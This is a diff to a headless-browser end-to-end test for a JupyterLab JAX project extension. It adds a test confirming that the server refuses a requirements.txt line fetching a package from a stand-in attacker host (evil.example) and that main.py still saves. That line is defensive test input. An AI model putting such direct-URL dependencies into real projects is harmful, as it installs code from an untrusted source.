@@ -1,5 +1,6 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import type { Project } from '@jaxlab/schemas/contract';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { REPO_ROOT, startLab } from '../../../scripts/start-lab.mjs';
@@ -31,6 +32,15 @@ async function setTheme(
   );
   await page.keyboard.press('Escape');
   await page.waitForTimeout(800);
+}
+
+/** The projects on the server, as another client (a plain fetch) sees them. */
+async function serverProjects(): Promise<Project[]> {
+  const token = new URL(lab.loginUrl).searchParams.get('token');
+  const res = await fetch(`${lab.serverUrl}/api/projects`, {
+    headers: { Authorization: `Bearer ${token}` }
+  });
+  return (await res.json()) as Project[];
 }
 
 const results = (): ReturnType<Page['locator']> =>
@@ -143,14 +153,8 @@ describe('JAX TPU Lab in JupyterLab (headless Chromium)', () => {
       })
       .toBe('Saved to server');
     // Saved on the server: another browser (here: a plain API client) sees the edit.
-    const token = new URL(lab.loginUrl).searchParams.get('token');
-    const projects = (await (
-      await fetch(`${lab.serverUrl}/api/projects`, {
-        headers: { Authorization: `Bearer ${token}` }
-      })
-    ).json()) as { items?: { mainPy: string }[] } | { mainPy: string }[];
-    const list = Array.isArray(projects) ? projects : (projects.items ?? []);
-    expect(list.some(p => p.mainPy.includes('def to_wide(x):'))).toBe(true);
+    const projects = await serverProjects();
+    expect(projects.some(p => p.mainPy.includes('def to_wide(x):'))).toBe(true);
     await panel.locator('.jp-jaxlab-ReviewButton').click();
     const finding = panel.locator('.jp-jaxlab-Finding', { hasText: 'JAX009' });
     await finding.waitFor({ timeout: 60_000 });
@@ -240,6 +244,44 @@ describe('JAX TPU Lab in JupyterLab (headless Chromium)', () => {
       .poll(() => badge.getAttribute('data-status'), { timeout: 180_000 })
       .toBe('COMPLETED');
   }, 200_000);
+
+  it('should refuse a requirements.txt line naming it, while main.py still saves', async () => {
+    const panel = page.locator('.jp-jaxlab-ProjectPanel:visible');
+    const tab = (name: string) =>
+      panel.locator('.jp-jaxlab-Files .lm-TabBar-tab', { hasText: name });
+    const editor = panel.locator('.jp-jaxlab-Files .cm-content:visible');
+    await tab('main.py').click();
+    await editor.click();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.insertText('\nSAVED_DESPITE_REQUIREMENTS = True\n');
+    await tab('requirements.txt').click();
+    await editor.click();
+    await page.keyboard.insertText('optax @ https://evil.example/optax.whl');
+    const saveState = panel.locator('.jp-jaxlab-SaveState');
+    await expect
+      .poll(() => saveState.textContent(), { timeout: 15_000 })
+      .toMatch(/^Save failed: requirements\.txt line 1: direct references/);
+    const saved = (await serverProjects()).filter(p =>
+      p.mainPy.includes('SAVED_DESPITE_REQUIREMENTS')
+    );
+    expect(saved.map(p => p.requirements)).toEqual(['']);
+    // Run refuses at once: no job is queued (the next test counts three).
+    await panel.locator('.jp-jaxlab-RunButton').click();
+    const dialog = page.locator('.jp-Dialog');
+    await expect
+      .poll(() => dialog.textContent(), { timeout: 15_000 })
+      .toMatch(/The run could not start.*requirements\.txt line 1/s);
+    await shot('requirements-rejected.png');
+    await dialog.locator('.jp-Dialog-button').first().click();
+    await tab('requirements.txt').click();
+    await editor.click();
+    await page.keyboard.press('Control+a');
+    await page.keyboard.press('Backspace');
+    await expect
+      .poll(() => saveState.textContent(), { timeout: 15_000 })
+      .toBe('Saved to server');
+    await tab('main.py').click();
+  }, 60_000);
 
   it('should list the runs, compare two and export the first as a notebook that opens', async () => {
     const items = page.locator('.jp-jaxlab-JobItem');
